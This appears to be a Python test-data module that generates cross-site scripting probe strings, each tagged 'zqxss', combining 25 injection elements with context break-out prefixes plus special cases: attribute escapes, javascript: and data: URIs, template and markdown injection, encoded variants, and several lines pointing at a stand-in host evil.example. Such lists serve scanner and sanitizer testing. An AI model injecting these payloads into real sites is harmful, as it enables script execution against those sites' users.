"""What somebody types who wants a page to run it. Each has MARK in what it brings in.

25 elements in 6 surroundings that they try to break out of, and what needs none: an
attribute's end, addresses, templates, markdown, and encodings that are undone twice.
"""

from __future__ import annotations

MARK = "zqxss"

ELEMENTS = (
    "<script zqxss>alert(1)</script>",
    "<img zqxss src=x onerror=alert(1)>",
    "<svg zqxss onload=alert(1)>",
    "<svg/zqxss/onload=alert(1)>",
    "<body zqxss onload=alert(1)>",
    "<iframe zqxss src=javascript:alert(1)>",
    "<a zqxss href=javascript:alert(1)>x</a>",
    "<form zqxss action=javascript:alert(1)><button>x",
    "<details zqxss open ontoggle=alert(1)>",
    "<video zqxss><source onerror=alert(1)>",
    "<math zqxss><mtext><img src onerror=alert(1)>",
    "<object zqxss data=javascript:alert(1)>",
    "<embed zqxss src=javascript:alert(1)>",
    "<base zqxss href=//evil.example/>",
    "<meta zqxss http-equiv=refresh content=0;url=//evil.example>",
    "<link zqxss rel=stylesheet href=//evil.example/a.css>",
    "<style zqxss>@import '//evil.example'</style>",
    "<input zqxss autofocus onfocus=alert(1)>",
    "<marquee zqxss onstart=alert(1)>",
    "<div zqxss hx-get=/ hx-trigger=load>",
    "<div zqxss hx-on::load=alert(1)>",
    "<div zqxss data-hx-post=/ data-hx-trigger=load>",
    "<template zqxss><script>alert(1)</script></template>",
    "<dialog zqxss open style=position:fixed>x",
    "<b zqxss style=background:url(//evil.example)>",
)
SURROUNDINGS = ("", '">', "'>", "</textarea>", "</title></style></script>", "-->")
SPECIAL = (
    '" zqxss autofocus onfocus=alert(1) x="',
    "' zqxss autofocus onfocus=alert(1) x='",
    '" zqxss hx-get="/" hx-trigger="load',
    "javascript:alert('zqxss')",
    "JaVaScRiPt&colon;alert('zqxss')",
    "data:text/html,<script zqxss>alert(1)</script>",
    "{{ 7|add:7 }} {{ zqxss }}",
    "{% debug %} {% include 'zqxss' %}",
    "[zqxss](javascript:alert(1))",
    "[zqxss](data:text/html;base64,PHNjcmlwdD4=)",
    "[zqxss](//evil.example 'a\" onmouseover=alert(1)')",
    '![zqxss](x" onerror="alert(1))',
    "<javascript:alert(1)//zqxss>",
    "\\u003cimg zqxss src=x onerror=alert(1)\\u003e",
    "＜img zqxss src=x onerror=alert(1)＞",
    "%3Cimg zqxss src=x onerror=alert(1)%3E",
    "&lt;img zqxss src=x onerror=alert(1)&gt;",
    "&#60;img zqxss src=x onerror=alert(1)&#62;",
    "<<img zqxss src=x onerror=alert(1)>",
    "<img zqxss src=x onerror=alert(1)//",
)
PAYLOADS = (
    *(around + element for around in SURROUNDINGS for element in ELEMENTS),
    *SPECIAL,
)
